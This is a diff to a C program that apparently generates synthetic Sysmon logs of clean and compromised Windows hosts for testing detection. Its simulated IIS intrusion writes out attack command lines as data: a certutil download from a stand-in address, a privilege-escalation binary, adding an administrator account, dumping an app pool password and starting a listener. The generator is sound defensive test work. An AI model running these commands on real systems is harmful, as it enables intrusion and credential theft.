@@ -25,9 +25,15 @@
 #define POWERSHELL SYS32 "WindowsPowerShell\\v1.0\\powershell.exe"
 #define DOTNET "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
 
-enum { TEXT = 40, DAMAGE_AT = 4096 + 65536 + 8192, DAMAGE_SIZE = 600 };
+enum { TEXT = 40, NOISE = 6, DAMAGE_AT = 4096 + 65536 + 8192, DAMAGE_SIZE = 600 };
 
 /* ---- hosts ------------------------------------------------------------------------ */
+
+typedef struct proc {
+    char guid[TEXT];
+    uint32_t pid;
+    const char *image, *command, *user, *level;
+} proc;
 
 typedef struct host {
     const char *computer;
@@ -39,13 +45,8 @@ typedef struct host {
     uint64_t record;
     uint64_t token;
     uint32_t pid;
+    proc system[NOISE]; /* what the background hangs under; pid 0: not yet known */
 } host;
-
-typedef struct proc {
-    char guid[TEXT];
-    uint32_t pid;
-    const char *image, *command, *user, *level;
-} proc;
 
 /* Whether a step failed; main says so. */
 typedef struct story {
@@ -199,6 +200,8 @@ static proc start(story *s, host *h, const proc *parent, const char *image, cons
     char pid[16], parent_pid[16], logon[64];
     st_buf utc = { 0 }, hashes = { 0 }, line = { 0 };
     image_info info = info_of(image);
+    if (st_str_starts(st_str_of(image), ST_STR("C:\\inetpub"))) /* what an intruder put there */
+        info = (image_info){ NULL, NULL, NULL };
     bool system = strcmp(user, SYSTEM_USER) == 0;
     bool microsoft = info.file != NULL && st_str_starts(st_str_of(image), ST_STR("C:\\Windows"));
     h->pid = h->pid % 30000 + 44;
@@ -330,7 +333,7 @@ typedef struct daily {
     const char *parent, *parent_command, *image, *command, *user;
 } daily;
 
-static const daily noise[] = {
+static const daily noise[NOISE] = {
     { SYS32 "services.exe", SYS32 "services.exe", SYS32 "svchost.exe",
       SYS32 "svchost.exe -k netsvcs -p -s wlidsvc", SYSTEM_USER },
     { SYS32 "svchost.exe", SYS32 "svchost.exe -k netsvcs -p -s Schedule", SYS32 "taskhostw.exe",
@@ -347,13 +350,36 @@ static const daily noise[] = {
       "powershell.exe -NoProfile -File \"C:\\Scripts\\disk%FREE%.ps1\"", SYSTEM_USER },
 };
 
+/* The first of the table with the same parent: a host has one of each service host. */
+static unsigned same_parent(unsigned i)
+{
+    unsigned k = 0;
+    while (strcmp(noise[k].parent_command, noise[i].parent_command) != 0)
+        k++;
+    return k;
+}
+
+/* One process each for the parents in the table above. */
+static proc *noise_parent(host *h, unsigned i)
+{
+    proc *p = &h->system[same_parent(i)];
+    if (p->pid == 0)
+        *p = unseen(h, noise[i].parent, noise[i].parent_command, SYSTEM_USER);
+    return p;
+}
+
+static proc services_of(host *h)
+{
+    return *noise_parent(h, 0);
+}
+
 static void background(story *s, host *h, unsigned rounds)
 {
     for (unsigned i = 0; i < rounds; i++) {
-        const daily *d = &noise[i % (sizeof noise / sizeof noise[0])];
-        proc parent = unseen(h, d->parent, d->parent_command, SYSTEM_USER);
+        const daily *d = &noise[i % NOISE];
+        proc *parent = noise_parent(h, i % NOISE);
         wait_ms(h, 40000 + i * 317);
-        proc p = start(s, h, &parent, d->image, d->command, d->user, "System");
+        proc p = start(s, h, parent, d->image, d->command, d->user, "System");
         wait_ms(h, 900);
         if (i % 2 == 0)
             end(s, h, &p);
@@ -486,6 +512,7 @@ static void iis_download(story *s, host *h, const proc *server)
     wait_ms(h, 8000);
     run(s, h, &ps, SYS32 "certutil.exe",
         "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
+    run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
     proc potato = child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
     wait_ms(h, 1200);
     proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
@@ -495,8 +522,12 @@ static void iis_download(story *s, host *h, const proc *server)
     run(s, h, &net, SYS32 "net1.exe", "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
     end(s, h, &net);
     run(s, h, &root, SYS32 "nltest.exe", "nltest /domain_trusts");
+    run(s, h, &root, SYS32 "inetsrv\\appcmd.exe",
+        "appcmd  list apppool DefaultAppPool /text:processmodel.password");
     end(s, h, &root);
     end(s, h, &potato);
+    wait_ms(h, 5000);
+    run(s, h, server, "C:\\inetpub\\temp\\csc.exe", "C:\\inetpub\\temp\\csc.exe -l 0 -p 8443");
 }
 
 static const char w3wp_line[] =
@@ -533,7 +564,7 @@ static void tell_others(story *s)
     const gen_field time_change[] = { { "NewTime", "2026-03-04T06:10:00.5Z", GEN_FILETIME, 0 },
                                       { "OldTime", "2026-03-04T06:09:58Z", GEN_FILETIME, 0 },
                                       { "Reason", "2", GEN_U32, 0 } };
-    const gen_field classic[] = { { NULL, "W32Time\nweb01\n", GEN_STRINGS, 0 },
+    const gen_field classic[] = { { NULL, "W32Time\nweb01", GEN_STRINGS, 0 },
                                   { NULL, "0a0B0c", GEN_BINARY, 0 } };
     const gen_field values[] = {
         { "I8", "-5", GEN_I8, 0 },          { "U8", "200", GEN_U8, 0 },
@@ -590,7 +621,7 @@ static void tell_tomcat(story *s)
 {
     gen_options no_crc = { .no_crc = true };
     host h = new_host(s, "APP02", 0xA1B20002, 21, "2026-03-05T20:30:00Z", &no_crc);
-    proc services = unseen(&h, SYS32 "services.exe", SYS32 "services.exe", SYSTEM_USER);
+    proc services = services_of(&h);
     service_state(s, &h);
     background(s, &h, 8);
     proc tomcat = start(s, &h, &services,
@@ -646,7 +677,7 @@ static void clean_desktop(story *s, host *h)
 
 static void clean_servers(story *s, host *h)
 {
-    proc services = unseen(h, SYS32 "services.exe", SYS32 "services.exe", SYSTEM_USER);
+    proc services = services_of(h);
     proc was = start(s, h, &services, SYS32 "svchost.exe", SYS32 "svchost.exe -k iissvcs", SYSTEM_USER,
                      "System");
     wait_ms(h, 900);
@@ -656,16 +687,47 @@ static void clean_servers(story *s, host *h)
     proc php = child(s, h, &w3wp, "C:\\Program Files\\PHP\\php-cgi.exe",
                      "\"C:\\Program Files\\PHP\\php-cgi.exe\"");
     run(s, h, &php, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4");
+    proc convert = child(s, h, &php, SYS32 "cmd.exe",
+                         "cmd.exe /s /c \"\"C:\\Tools\\magick.exe\" in.png -resize 50% out.png\"");
+    run(s, h, &convert, "C:\\Tools\\magick.exe", "magick.exe in.png -resize 50% out.png");
+    end(s, h, &convert);
     run(s, h, &w3wp, SYS32 "WerFault.exe", SYS32 "WerFault.exe -u -p 4160 -s 920");
     end(s, h, &w3wp);
     proc httpd = start(s, h, &services, "C:\\Apache24\\bin\\httpd.exe",
                        "\"C:\\Apache24\\bin\\httpd.exe\" -k runservice", SYSTEM_USER, "System");
     proc worker = child(s, h, &httpd, "C:\\Apache24\\bin\\httpd.exe",
                         "C:\\Apache24\\bin\\httpd.exe -d C:/Apache24");
-    proc pipe = child(s, h, &worker, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
+    proc nginx = start(s, h, &services, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE, "System");
+    proc pipe = child(s, h, &nginx, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
     run(s, h, &pipe, "D:\\site\\bin\\convert.exe", "convert.exe in.tif out.jpg");
     end(s, h, &pipe);
     run(s, h, &worker, "C:\\Apache24\\bin\\rotatelogs.exe", "rotatelogs.exe logs/access.log 86400");
+}
+
+/* What servers ask of the system, which looks like an intruder's questions. */
+static void clean_questions(story *s, host *h)
+{
+    proc services = services_of(h);
+    proc java = start(s, h, &services, "C:\\ManageEngine\\jre\\bin\\java.exe",
+                      "\"C:\\ManageEngine\\jre\\bin\\java.exe\" -Dcatalina.home=C:\\ManageEngine "
+                      "org.apache.catalina.startup.Bootstrap",
+                      SYSTEM_USER, "System");
+    proc cmd = child(s, h, &java, SYS32 "cmd.exe", "cmd.exe /c \"C:\\ManageEngine\\bin\\elasticsearch.bat\" -d");
+    run(s, h, &cmd, "C:\\ManageEngine\\jre\\bin\\java.exe",
+        "java.exe -cp lib\\* org.elasticsearch.bootstrap.Elasticsearch");
+    end(s, h, &cmd);
+    run(s, h, &java, SYS32 "sc.exe", "sc query ManageEngineDb");
+    run(s, h, &java, SYS32 "net.exe", "net start ManageEngineDb");
+    proc node = start(s, h, &services, "C:\\Program Files\\nodejs\\node.exe",
+                      "\"C:\\Program Files\\nodejs\\node.exe\" D:\\site\\server.js", "CORP\\svc-web",
+                      "High");
+    proc sh = child(s, h, &node, SYS32 "cmd.exe",
+                    SYS32 "cmd.exe /d /s /c \"netstat -ano | findstr :3000 | findstr LISTENING\"");
+    run(s, h, &sh, SYS32 "netstat.exe", "netstat  -ano ");
+    end(s, h, &sh);
+    sh = child(s, h, &node, SYS32 "cmd.exe", SYS32 "cmd.exe /d /s /c \"git rev-parse HEAD\"");
+    run(s, h, &sh, "C:\\Program Files\\Git\\cmd\\git.exe", "git  rev-parse HEAD");
+    end(s, h, &sh);
 }
 
 /* Programs that only look like servers. */
@@ -685,7 +747,7 @@ static void clean_lookalikes(story *s, host *h)
                       "javaw.exe -jar C:\\Tools\\editor.jar");
     proc java_shell = child(s, h, &java, SYS32 "cmd.exe", "cmd.exe /c ver");
     run(s, h, &java_shell, SYS32 "tasklist.exe", "tasklist");
-    proc services = unseen(h, SYS32 "services.exe", SYS32 "services.exe", SYSTEM_USER);
+    proc services = services_of(h);
     proc sql = start(s, h, &services, "C:\\Program Files\\Microsoft SQL Server\\Binn\\sqlservr.exe",
                      "\"sqlservr.exe\" -sMSSQLSERVER", "NT Service\\MSSQLSERVER", "High");
     run(s, h, &sql, SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c dir D:\\backup");
@@ -700,6 +762,7 @@ static void tell_clean(story *s)
     background(s, &h, 12);
     clean_desktop(s, &h);
     clean_lookalikes(s, &h);
+    clean_questions(s, &h);
     background(s, &h, 12);
     finish(s, h.log, "clean", "Microsoft-Windows-Sysmon%4Operational.evtx");
     host old = new_host(s, "OLD04", 0xA1B20004, 16, "2026-03-04T07:00:00Z", NULL);
